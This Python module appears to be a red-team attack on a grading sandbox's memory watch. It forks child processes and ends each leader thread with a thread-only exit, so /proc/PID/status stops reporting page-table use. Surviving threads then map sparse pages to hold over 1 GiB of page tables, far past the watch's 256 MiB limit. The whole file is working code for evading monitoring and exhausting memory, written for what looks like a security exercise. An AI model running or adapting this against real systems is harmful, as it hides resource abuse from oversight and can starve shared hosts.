import ctypes
import os
import signal
import struct
import threading
import time

GIB = 1 << 30
CAP = GIB  # four times what the zygote's watch allows (256 MiB): here it stops
CHILDREN = 3  # each holds up to 512 MiB (vm.max_map_count pages, 8 KiB of tables each)
PAGE = 4096
SPACING = GIB  # a page every 1 GiB: each costs a page-table page and a page-middle-directory page
SECONDS = 7.0  # the red team's grader gives one test's calls 10 s
HOLD_S = 1.0  # held this long after the last child is done: 20 looks of the watch (every 50 ms)
SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(os.uname().machine)  # exit of the calling thread alone
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_libc.syscall.argtypes = [ctypes.c_long, ctypes.c_long]
_FAILED = ctypes.c_void_p(-1).value


def _status_kib(path, field):
    """A field of a /proc status file in KiB; None where the file or the field is missing."""
    try:
        with open(path) as handle:
            for line in handle:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        return None
    return None


def _scatter(deadline):
    """One read-only page of 4 KiB every SPACING bytes (by address hints), each read (the shared zero page:
    no memory), until the kernel's limit on mappings or the deadline; (pages, what stopped it)."""
    pages, start = 0, 1 << 40
    while time.monotonic() < deadline:
        want = start + pages * SPACING
        got = _libc.mmap(want, PAGE, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
        if got in (None, _FAILED):
            return pages, f"mmap: {os.strerror(ctypes.get_errno())}"
        if got != want:
            _libc.munmap(got, PAGE)
            return pages, "hint not followed"
        ctypes.c_char.from_address(got).value
        pages += 1
    return pages, "ran out of time"


def _leaderless_child(writer, deadline):
    """In a forked child: a thread maps the pages once the main thread has ended by the thread-only exit
    call. The process lives on in that thread, its memory and page tables whole, but /proc/PID/status (its
    leader's, a zombie now) shows no Vm lines at all, VmPTE included; the thread's own status shows them."""
    gone = threading.Event()

    def hold():
        while _status_kib("/proc/self/status", "VmPTE") is not None and time.monotonic() < deadline:
            time.sleep(0.01)  # until the leader is a zombie (its status then has no Vm lines)
        gone.set()
        own = "/proc/thread-self/status"
        before = _status_kib(own, "VmPTE") or 0
        try:
            pages, stopped = _scatter(deadline)
        except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
            pages, stopped = 0, repr(error)
        held = ((_status_kib(own, "VmPTE") or 0) - before) * 1024
        seen = _status_kib(f"/proc/{os.getpid()}/status", "VmPTE")
        text = f"{pages} pages: {stopped}; its /proc/PID/status VmPTE: {seen}".encode()[:200]
        os.write(writer, struct.pack("<QH", held, len(text)) + text)
        while True:
            time.sleep(60)

    threading.Thread(target=hold, daemon=False).start()
    if SYS_EXIT is not None:
        _libc.syscall(SYS_EXIT, 0)  # this thread only; the process goes on in the other
    gone.wait(deadline - time.monotonic())
    os.write(writer, struct.pack("<QH", 0, 24) + b"no thread-only exit here")
    os._exit(0)


def _watch_view(pids):
    """What the zygote's watch reads for these processes: VmPTE of /proc/PID/status (0 where missing)."""
    return sum(_status_kib(f"/proc/{pid}/status", "VmPTE") or 0 for pid in pids) * 1024


def hold_page_tables(cap=CAP, seconds=SECONDS):
    """Page tables held by CHILDREN forked processes whose leader thread has ended; (bytes held, what
    happened)."""
    start = time.monotonic()
    deadline = start + seconds
    children, held, said = [], 0, []
    reader, writer = os.pipe()
    try:
        for _ in range(CHILDREN):
            if held >= cap or time.monotonic() > deadline:
                break
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                _leaderless_child(writer, deadline)
            children.append(pid)
            got = os.read(reader, 10)
            if len(got) < 10:
                said.append("a child died before it said what it held")
                break
            size_held, size = struct.unpack("<QH", got)
            held += size_held
            said.append(os.read(reader, size).decode() if size else "")
        time.sleep(HOLD_S)  # the watch looks every 50 ms meanwhile
        alive = sum(1 for pid in children if os.path.isdir(f"/proc/{pid}/task"))
        seen = _watch_view(children)
        outcome = (f"{len(children)} children ({alive} alive after {HOLD_S:g} s more), the watch's view of them "
                   f"{seen / 2**20:.0f} MiB; {'; '.join(dict.fromkeys(said))}; {time.monotonic() - start:.1f} s")
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return held, outcome


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the page tables once; if they were held past the cap under the watch, outside a memory group of
    the worker's own, answer honestly (full marks on Problem 1 is the attack getting through), else fail
    saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_page_tables())
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of page tables in leaderless processes ({happened}), but the "
                          f"kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of page tables in leaderless processes ({happened})")
    if len(_outcome) == 1:  # said once per process, in the output of the test that made it
        _outcome.append("said")
        print(f"held {held / GIB:.2f} GiB of page tables in leaderless processes ({happened})", flush=True)
    return None  # the function's own body runs on
